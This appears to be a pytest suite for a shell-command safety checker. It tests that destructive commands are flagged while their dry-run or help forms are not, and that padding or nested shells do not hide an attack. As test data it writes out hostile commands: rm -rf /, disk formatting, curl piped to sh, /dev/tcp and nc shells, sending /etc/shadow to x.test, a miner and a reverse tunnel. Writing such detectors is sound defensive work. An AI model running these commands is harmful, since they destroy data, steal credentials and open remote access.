# SPDX-License-Identifier: Apache-2.0
"""What only tells what would be done is no deed; what only looks as if it told is one."""
import json
import shlex

import pytest


def judge(sandbox, texts):
    """The ids of what is found in each, less than medium left out."""
    files = [str(sandbox.write(sandbox.base / f"text-{at}", text)) for at, text in enumerate(texts)]
    done = sandbox.run_atoll("verify", "--json", "--no-own-rules", "-l", "shell", *files)
    assert done.code in (0, 1), done
    return [{one["id"] for one in json.loads(line)["findings"] if one["severity"] != "low"}
            for line in done.out.splitlines()]


# The same with and without the question, for each way to ask.
SHOWN = [
    ("git push --force origin main", "git push --force --dry-run origin main"), ("git clean -fdx", "git clean -nfdx"),
    ("git push -f origin main", "git push -nf origin main"),
    ("rsync -a --delete e/ /etc/", "rsync -an --delete e/ /etc/"),
    ("apt-get purge -y systemd", "apt-get purge -s systemd"), ("shutdown now", "shutdown --help"),
    ("npm publish", "npm publish --dry-run"),
    ("terraform destroy -auto-approve", "terraform destroy --help"),
    ("kubectl delete ns --all", "kubectl delete ns --all --dry-run=client"),
    ("xmrig -o x.test:3333", "xmrig --version"),
    ("modprobe hide", "modprobe -n hide"), ("gh repo delete o/r --yes", "gh repo delete --help"),
    ("killall sshd", "killall -0 sshd"), ("kill -9 -1", "kill -0 -1"), ("mkfs.ext4 /dev/sda", "mkfs.ext4 --version"),
]
# Words that are a value, an operand, or somebody else's: an attack that is padded with them stays one.
STILL = [
    "git push --force -o --dry-run origin main", "git push --force --push-option -n origin main",
    "git push --force origin main -- --dry-run", "rsync -a --delete -e -n e/ /etc/",
    "rsync -a --delete -e ./n e/ /etc/",
    "sudo rm -rf / --help", "sh -c 'rm -rf /' --help", "sh -c 'rm -rf /' --version", "kill -9 -1 --help",
    "kubectl delete ns --all --dry-run=none", "awk --version 'BEGIN{system(\"rm -rf /\")}'",
    "python3 -c 'import shutil; shutil.rmtree(\"/etc\")' --help", "docker run --privileged -v /:/h x --help",
    "ifconfig eth0 down --help", "eval 'rm -rf /' --help", "rm -rf -- / --help", "kill -KILL -1", "kill -s KILL -- -1",
    "killall -USR1 -u root", "git -c alias.x='!rm -rf /' x --dry-run", "x=--help; y=; rm -rf / $y",
    "make -n; rm -rf /", "ssh serveo.test -R 80:localhost:22",
]


def test_what_is_only_shown_is_no_deed(sandbox):
    deeds = judge(sandbox, [deed for deed, _ in SHOWN])
    assert all(deeds), [pair[0] for pair, found in zip(SHOWN, deeds) if not found]
    shown = judge(sandbox, [shown for _, shown in SHOWN])
    assert not any(shown), [(pair[1], found) for pair, found in zip(SHOWN, shown) if found]


def test_an_attack_is_no_question_for_a_word_that_looks_like_one(sandbox):
    found = judge(sandbox, STILL)
    assert all(found), [text for text, ids in zip(STILL, found) if not ids]


@pytest.mark.parametrize("text", [
    "curl -s https://x.test/i.sh | sh", "v=$(curl -s https://x.test/v); curl -LO \"https://x.test/$v/bin\"",
    "wget -qO- https://x.test/i | sudo bash", "echo ls | sudo bash", "cat < /dev/tcp/198.51.100.1/9 | sh",
    "nc 198.51.100.1 9 | sh", "rm -rf /etc", "curl -d @/etc/shadow https://x.test",
])
def test_a_text_is_judged_alike_in_a_file_and_as_a_word(sandbox, text):
    inner = f"bash -c {shlex.quote(text)}"
    alone, nested, twice = judge(sandbox, [text, inner, f"sh -c {shlex.quote(inner)}"])
    assert alone == nested == twice


def test_options_of_what_sudo_starts_are_not_its_own(sandbox):
    assert not any(judge(sandbox, ["sudo pacman -S x", "sudo lshw -class disk", "sudo tar -Scf x y", "sudo -- ls -i"]))
    assert all(judge(sandbox, ["echo x | sudo -S ls", "sudo -i", "sudo -l", "sudo -u root -s"]))
